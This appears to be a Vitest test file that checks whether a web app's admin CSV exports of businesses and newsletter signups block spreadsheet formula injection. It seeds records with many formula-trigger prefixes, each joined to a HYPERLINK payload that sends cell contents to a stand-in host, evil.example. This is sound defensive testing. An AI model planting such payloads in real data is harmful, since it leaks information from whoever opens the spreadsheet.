import { afterAll, beforeAll, expect, it } from 'vitest'
import { createBusiness } from '#demo/factories/businesses.ts'
import { signInAsAdmin } from '#tests/helpers/sign-in.ts'
import { createTestApp, type TestApp } from '#tests/helpers/test-app.ts'

const FORMULAS = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '\u00a0=',
  '\ufeff=',
]
const CALL = `HYPERLINK("https://evil.example?"&A1,"click")`

let app: TestApp
let cookie: string
beforeAll(async () => {
  app = await createTestApp('sqlite')
  cookie = await signInAsAdmin(app)
  for (const start of FORMULAS) {
    const text = start + CALL
    await createBusiness(app.context.db, { businessName: text, emailPublic: text })
    await app.server.inject({
      method: 'POST',
      url: '/api/newsletter',
      payload: {
        name: text,
        phone: text.slice(0, 40),
        email: `n${FORMULAS.indexOf(start)}@example.co.za`,
      },
    })
  }
  const confirmedAt = new Date().toISOString()
  await app.context.db.updateTable('newsletterSignups').set({ confirmedAt }).execute()
})
afterAll(() => app.close())

/** As a spreadsheet reads it: cells in quotes, quotes doubled. */
const cellsOf = (csv: string) =>
  [...csv.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell.replaceAll('""', '"'))

it.each(['/api/admin/businesses.csv', '/api/admin/newsletter.csv'])(
  'no cell of %s begins as a formula, whatever people call themselves',
  async (url) => {
    const { body } = await app.server.inject({ url, headers: { cookie } })
    const cells = cellsOf(body)
    expect(cells.filter((cell) => cell.includes('HYPERLINK')).length).toBeGreaterThanOrEqual(
      FORMULAS.length,
    )
    for (const cell of cells) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠\t\r\n]/)
    // Everything between the cells is commas and line ends: no text has left its cell.
    expect(body.replace(/"(?:[^"]|"")*"/g, '').replace(/[,\r\n\ufeff]/g, '')).toBe('')
  },
)
